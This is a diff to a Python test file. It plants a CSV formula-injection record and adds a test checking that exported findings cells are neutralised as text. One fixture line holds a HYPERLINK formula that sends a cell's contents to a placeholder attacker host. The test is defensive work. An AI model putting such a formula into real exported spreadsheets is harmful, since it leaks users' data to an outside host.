@@ -33,6 +33,15 @@ def written(
             plate="HTM1",
         )
     )
+    plants["S1.protest"].append(
+        Search(
+            "P-S1.protest-f",
+            hostile.name,
+            hostile.at,
+            '=HYPERLINK("http://evil.example/?leak="&A1,"protest")',
+            plate="FRM1",
+        )
+    )
     searches = clean_traffic(users=3, days=14) + [s for g in plants.values() for s in g]
     export = write_13(folder / "audit.csv", searches)
     junk = folder / "junk.csv"
@@ -128,3 +137,14 @@ def test_report_renders_in_chromium(written: tuple[Path, dict[str, Any], Any]) -
         assert box is not None and box["width"] > 200 and box["height"] > 100
         browser.close()
     assert not errors
+
+
+def test_findings_csv_cells_cannot_run_as_formulas(
+    written: tuple[Path, dict[str, Any], Any],
+) -> None:
+    out, _, _ = written
+    with open(out / "findings.csv", encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)  # the planted reason is there ...
+    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(re.fullmatch(r"[+-]?[\d.]+", c) for c in risky), risky  # ... but only as text
